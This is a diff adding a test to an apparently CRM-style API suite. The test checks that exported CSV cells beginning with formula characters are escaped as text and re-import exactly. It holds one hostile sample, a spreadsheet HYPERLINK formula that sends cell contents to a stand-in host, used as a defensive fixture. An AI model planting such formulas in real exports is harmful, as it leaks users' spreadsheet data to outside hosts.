@@ -212,6 +212,32 @@ describe('GET /api/app/v1/exports/people and /deals', () => {
     expect(after.count).toBe(before.count)
   })
 
+  it('cells that would run as spreadsheet formulas are exported as text, and import back exact', async () => {
+    const hostile = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
+    const person = await createPerson(server.api, {
+      fullName: hostile,
+      primaryEmail: 'formula@example.com',
+      primaryPhone: '+55 11 91234-5678',
+      tags: ['@risk'],
+    })
+    const rows: Record<string, string>[] = parse((await download('people')).text, { columns: true })
+    const row = rows.find((candidate) => candidate.id === person.id)!
+    expect(row.fullName).toBe(`'${hostile}`)
+    expect(row.tags).toBe("'@risk")
+    expect(row.primaryPhone).toBe('+55 11 91234-5678')
+
+    await server.api.patch(`/api/v1/people/${person.id}`, {
+      fullName: 'Changed meanwhile',
+      tags: [],
+    })
+    const { body } = await upload(stringify([row], { header: true }), {
+      mapping: { fullName: '{{fullName}}', primaryEmail: '{{primaryEmail}}', tags: '{{tags}}' },
+    })
+    expect(body).toMatchObject({ updated: 1, rejected: 0 })
+    const { body: restored } = await server.api.get(`/api/v1/people/${person.id}`)
+    expect(restored).toMatchObject({ fullName: hostile, tags: ['@risk'] })
+  })
+
   it('deals: CSV and NDJSON', async () => {
     const pipeline = await salesPipeline(server.admin)
     const deal = await createDeal(server.api, pipeline, { title: 'Export me', value: 99.5 })
